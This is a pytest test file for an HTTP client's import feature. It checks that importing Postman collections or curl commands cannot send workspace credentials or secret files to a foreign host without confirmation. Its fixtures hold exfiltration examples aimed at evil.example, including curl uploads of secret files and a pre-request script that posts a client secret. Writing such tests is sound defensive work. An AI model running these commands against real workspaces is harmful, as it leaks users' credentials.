"""What would take a workspace's credentials to another host is agreed to before it is written."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.integration.importing.test_import_trust import collection, imported, item
from tests.shell import Shell


@pytest.fixture
def shell(tmp_path: Path) -> Shell:
    return Shell(tmp_path / "home", tmp_path)


WORKSPACE = (
    '[variables]\nbase_url = "http://127.0.0.1:1"\ntoken_url = "http://127.0.0.1:2/t"\n'
    'tok2 = "{{api_token}}"\n'
    '[secrets]\nclient_secret = "hush"\napi_token = { env = "API_TOKEN" }\n'
    '[auth.default]\ntype = "oauth2"\ngrant = "client_credentials"\n'
    'token_endpoint = "{{token_url}}"\nclient_id = "me"\nclient_secret = "{{client_secret}}"\n'
)
FOREIGN = "https://evil.example"
NO_AUTH = {"type": "noauth"}


def body(mode: str, **kinds: Any) -> dict[str, Any]:
    return item("r", url=FOREIGN, auth=NO_AUTH, body={"mode": mode, **kinds})


def own_auth(kind: str, **values: str) -> dict[str, Any]:
    rows = [{"key": key, "value": value} for key, value in values.items()]
    return item("r", url=FOREIGN, auth={"type": kind, kind: rows})


def bare(url: Any, **request: Any) -> dict[str, Any]:
    return item("r", url=url, auth=NO_AUTH, **request)


CARRIED = {
    "the URL": bare(f"{FOREIGN}/{{{{api_token}}}}"),
    "user info": bare("https://u:{{api_token}}@evil.example/"),
    "a query": bare(f"{FOREIGN}/?t={{{{api_token}}}}"),
    "a query without a place": bare(
        {"host": ["evil.example"], "query": [{"key": "t", "value": "{{api_token}}"}]}
    ),
    "a path variable": bare(
        {"raw": f"{FOREIGN}/:t", "variable": [{"key": "t", "value": "{{api_token}}"}]}
    ),
    "a header": bare(FOREIGN, header=[{"key": "X", "value": "{{api_token}}"}]),
    "a variable of the workspace": bare(FOREIGN, header=[{"key": "X", "value": "{{tok2}}"}]),
    "a variable of the collection": bare(FOREIGN, header=[{"key": "X", "value": "{{mine}}"}]),
    "a nested reference": bare(FOREIGN, header=[{"key": "X", "value": "{{{{which}}_token}}"}]),
    "a text": body("raw", raw='{"a": "{{api_token}}"}'),
    "a form": body("urlencoded", urlencoded=[{"key": "a", "value": "{{api_token}}"}]),
    "parts": body("formdata", formdata=[{"key": "a", "value": "{{api_token}}", "type": "text"}]),
    "GraphQL": body("graphql", graphql={"query": "q", "variables": '{"a": "{{api_token}}"}'}),
    "bearer": own_auth("bearer", token="{{api_token}}"),
    "basic": own_auth("basic", username="u", password="{{tok2}}"),
    "an API key": own_auth("apikey", key="X", value="{{api_token}}"),
    "a fixed token": own_auth("oauth2", accessToken="{{api_token}}"),
    "a client of the workspace": own_auth(
        "oauth2",
        grant_type="client_credentials",
        accessTokenUrl="{{token_url}}",
        clientId="me",
        clientSecret="{{client_secret}}",
    ),
    "a URL of variables": bare("{{evil}}/x", header=[{"key": "X", "value": "{{api_token}}"}]),
}


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "w"
    (folder / "environments").mkdir(parents=True)
    (folder / "requests").mkdir()
    (folder / "environments/dev.toml").write_text(WORKSPACE)
    (folder / "requests/mine.toml").write_text('url = "{{base_url}}/ok"\n')
    return folder


def refused(shell: Shell, folder: Path, text: str, host: str, *words: str) -> None:
    """Nothing is written unasked; with a yes it is, and nothing is asked about it again."""
    before = {one: one.read_bytes() for one in folder.rglob("*.toml")}
    said = imported(shell, text, "--into", "w", *words)
    assert said.status == 2, said.text + said.err
    assert f"credentials of the workspace go to {host}" in said.err
    assert {one: one.read_bytes() for one in folder.rglob("*.toml")} == before
    seen = shell.run("import", "in.json", "--into", "w", "--dry-run", "--json", *words)
    assert f"credentials of the workspace go to {host}" in [
        one["what"] for one in seen.json["needs"]
    ]
    assert shell.run("import", "in.json", "--into", "w", "--yes", *words).status == 0
    again = shell.run("import", "in.json", "--into", "w", "--dry-run", "--json", *words)
    assert [one for one in again.json["needs"] if "of the workspace" in one["what"]] == []


@pytest.mark.parametrize("where", CARRIED)
def test_a_secret_of_the_workspace_goes_to_no_imported_host_unasked(
    shell: Shell, workspace: Path, where: str
) -> None:
    variables = {"mine": "x {{tok2}}", "which": "api", "evil": FOREIGN}
    rows = [{"key": key, "value": value} for key, value in variables.items()]
    text = collection(CARRIED[where], variable=rows)
    refused(shell, workspace, text, "evil.example")


def test_a_secret_in_a_host_goes_to_whoever_has_that_name(shell: Shell, workspace: Path) -> None:
    host = "https://{{api_token}}.evil.example"
    refused(shell, workspace, collection(bare(f"{host}/x")), host)


def test_another_port_of_this_machine_is_another_host(shell: Shell, workspace: Path) -> None:
    row = [{"key": "X", "value": "{{api_token}}"}]
    text = collection(bare("http://127.0.0.1:9/x", header=row))
    refused(shell, workspace, text, "127.0.0.1:9")
    text = collection(bare("{{base_url}}/x", header=row))
    assert imported(shell, text, "--into", "w", "--update").status == 0


@pytest.mark.parametrize("scope", ["environment", "globals"])
@pytest.mark.parametrize("known", [True, False], ids=["changed", "added"])
def test_a_variable_takes_no_request_that_is_there_elsewhere(
    shell: Shell, workspace: Path, scope: str, known: bool
) -> None:
    if not known or scope == "globals":
        file = workspace / "environments/dev.toml"
        file.write_text(file.read_text().replace("base_url", "other_url"))
    rows = [{"key": "base_url", "value": FOREIGN, "enabled": True}]
    text = json.dumps({"name": "Dev", "_postman_variable_scope": scope, "values": rows})
    refused(shell, workspace, text, "evil.example", "--update")


def test_an_auth_of_a_folder_takes_nothing_elsewhere_of_what_is_in_it(
    shell: Shell, workspace: Path
) -> None:
    plain = bare("{{base_url}}/x")
    assert imported(shell, collection(plain), "--into", "w").status == 0
    assert (workspace / "requests/nice/r.toml").exists()
    (workspace / "requests/nice/extra.toml").write_text(f'url = "{FOREIGN}"\n')
    auth = {"type": "bearer", "bearer": [{"key": "token", "value": "{{api_token}}"}]}
    refused(shell, workspace, collection(plain, auth=auth), "evil.example", "--update")


def test_a_client_of_a_script_is_asked_about_before_a_request_uses_it(
    shell: Shell, workspace: Path
) -> None:
    script = [
        "pm.sendRequest({url: 'https://evil.example/t', method: 'POST',",
        "body: {mode: 'urlencoded', urlencoded: [",
        "{key: 'grant_type', value: 'client_credentials'},",
        "{key: 'client_secret', value: pm.environment.get('client_secret')},",
        "{key: 'client_id', value: 'x'}]}}, (e, r) =>",
        "pm.environment.set('t', r.json().access_token));",
    ]
    event = [{"listen": "prerequest", "script": {"exec": script}}]
    text = collection(bare("{{base_url}}/x"), event=event)
    refused(shell, workspace, text, "evil.example")


@pytest.mark.parametrize("where", ["outrider.toml", "environments/dev.toml"])
def test_a_credential_in_a_plain_variable_goes_to_no_imported_host_unasked(
    shell: Shell, workspace: Path, where: str
) -> None:
    old = (workspace / where).read_text() if (workspace / where).exists() else "[variables]\n"
    line = '[variables]\nservice_password = "Correct-Horse-7"\nlimit = "20"\n'
    (workspace / where).write_text(old.replace("[variables]\n", line))
    plain = collection(bare(FOREIGN, header=[{"key": "X", "value": "{{limit}}"}]))
    assert imported(shell, plain, "--into", "w", "--dry-run", "--json").json["needs"] == []
    row = [{"key": "X", "value": "{{service_password}}"}]
    refused(shell, workspace, collection(bare(FOREIGN, header=row)), "evil.example")


def test_a_client_without_a_secret_is_taken_to_no_other_server_unasked(
    shell: Shell, workspace: Path
) -> None:
    file = workspace / "environments/dev.toml"
    text = file.read_text().replace('client_secret = "{{client_secret}}"\n', "")
    file.write_text(text.replace("client_id", 'token_endpoint_auth_method = "none"\nclient_id'))
    rows = [{"key": "token_url", "value": f"{FOREIGN}/t", "enabled": True}]
    values = json.dumps({"name": "Dev", "_postman_variable_scope": "environment", "values": rows})
    refused(shell, workspace, values, "evil.example", "--update")


@pytest.mark.parametrize("login", ["u:{{api_token}}", "u:Correct-Horse-7"])
def test_a_login_at_a_proxy_goes_to_no_other_proxy_unasked(
    shell: Shell, workspace: Path, login: str
) -> None:
    file = workspace / "environments/dev.toml"
    text = file.read_text().replace("[variables]\n", '[variables]\ngate = "gate.example"\n')
    file.write_text(f'{text}[proxy]\nurl = "http://{login}@{{{{gate}}}}:3128"\n')
    rows = [{"key": "gate", "value": "evil.example", "enabled": True}]
    values = json.dumps({"name": "Dev", "_postman_variable_scope": "environment", "values": rows})
    refused(shell, workspace, values, "evil.example:3128", "--update")


def test_a_request_that_takes_nothing_of_the_workspace_is_not_asked_about(
    shell: Shell, workspace: Path
) -> None:
    row = [{"key": "X", "value": "{{base_url}} {{own}}"}]
    text = collection(bare(FOREIGN, header=row), variable=[{"key": "own", "value": "1"}])
    said = imported(shell, text, "--into", "w", "--json")
    assert (said.status, said.json["needs"]) == (0, [])


def test_a_refused_import_is_an_object_too(shell: Shell, workspace: Path) -> None:
    text = collection(bare(f"{FOREIGN}/{{{{api_token}}}}"))
    said = imported(shell, text, "--into", "w", "--json")
    assert (said.status, said.json["written"]) == (2, [])
    assert said.json["error"]["code"] == "import_trust"
    assert [one["kind"] for one in said.json["needs"]] == ["host"]
    assert said.json["files"]
    said = imported(shell, "nothing of any kind", "--into", "w", "--json")
    assert (said.status, said.json["written"], said.json["files"]) == (3, [], [])
    assert said.json["error"]["what"] in said.err


KEPT = {
    "an overlay": "environments/dev.local.toml",
    "a dotenv file": ".env",
    "one of an environment": ".env.prod",
    "an environment": "environments/two.toml",
    "the settings": "outrider.toml",
    "a folder": "requests/sub/folder.toml",
    "of git": ".git/config",
    "named by a secret": "keys/s.txt",
    "lines of another name": "keys/lines",
    "a key of TLS": "certs/me.key",
    "a certificate with its key": "certs/me.p12",
    "read by a command": "keys/c.txt",
}
NAMED = (
    '[variables]\ndir = "certs"\n[secrets]\ns = { file = "keys/s.txt" }\n'
    'l = { dotenv = "./keys/lines", key = "A" }\n'
    'c = { command = ["cat", "keys/c.txt"] }\n'
    '[tls]\nclient_key = "{{dir}}/../certs/me.key"\nclient_certificate = "certs/me.p12"\n'
)


@pytest.mark.parametrize("where", KEPT)
def test_a_file_that_keeps_secrets_is_sent_by_no_import_unasked(
    shell: Shell, workspace: Path, where: str
) -> None:
    (workspace / "environments/named.toml").write_text(NAMED)
    file = workspace / KEPT[where]
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text('[variables]\napi_token = "kept-here"\n')
    file.chmod(0o600)
    (workspace / "plain-link").symlink_to(file)
    relative = KEPT[where]
    files = {
        "c.json": collection(body("file", file={"src": relative})),
        "f.json": collection(
            body("formdata", formdata=[{"key": "a", "src": relative, "type": "file"}])
        ),
        "l.json": collection(body("file", file={"src": "./environments/../plain-link"})),
        "c.sh": f"curl {FOREIGN} --data-binary @{file}\n",
        "d.sh": f"curl {FOREIGN} -d @{workspace}/plain-link\n",
        "t.sh": f"curl {FOREIGN} -T {relative}\n",
    }
    before = set(workspace.rglob("*"))
    for name, text in files.items():
        (shell.folder / name).write_text(text)
        said = shell.run("import", name, "--into", str(workspace))
        assert said.status == 2, (name, said.text)
        assert f"the file {file} with secrets is" in said.text, name
        assert "outside the workspace" not in said.text
        assert set(workspace.rglob("*")) == before


def test_a_file_without_secrets_is_sent_unasked(shell: Shell, workspace: Path) -> None:
    (workspace / "environments/named.toml").write_text(NAMED)
    (workspace / "data").mkdir()
    (workspace / "data/orders.toml").write_text("a = 1\n")
    text = collection(body("file", file={"src": "data/orders.toml"}))
    said = imported(shell, text, "--into", "w", "--json")
    assert (said.status, said.json["needs"]) == (0, [])


UNRESOLVED = {
    "an auth of its own": 'url = "{{billapi}}/x/"\n[auth]\ntype = "bearer"\ntoken = "8f2b9c1d7e"\n',
    "a host in part": 'url = "https://{{tenant}}.example/"\n[auth]\ntype = "bearer"\n'
    'token = "{{$env.API_TOKEN}}"\n',
    "a OS environment variable": 'url = "{{billapi}}/x/"\n'
    'headers = [{ name = "X", value = "{{$env.API_TOKEN}}" }]\n',
}


@pytest.mark.parametrize("which", UNRESOLVED)
def test_a_request_that_goes_nowhere_is_no_reason_to_ask(
    shell: Shell, workspace: Path, which: str
) -> None:
    (workspace / "requests/bill.toml").write_text(UNRESOLVED[which])
    rows = [{"key": "other", "value": "1", "enabled": True}]
    for name in ("Dev", "Later"):
        text = json.dumps({"name": name, "_postman_variable_scope": "environment", "values": rows})
        said = imported(shell, text, "--into", "w", "--update", "--json")
        assert (said.status, said.json["needs"]) == (0, []), name
    # What makes it go somewhere is asked about, with the host that it is.
    rows = [
        {"key": key, "value": value, "enabled": True}
        for key, value in (("billapi", FOREIGN), ("tenant", "evil"))
    ]
    text = json.dumps({"name": "Dev", "_postman_variable_scope": "environment", "values": rows})
    refused(shell, workspace, text, "evil.example", "--update")
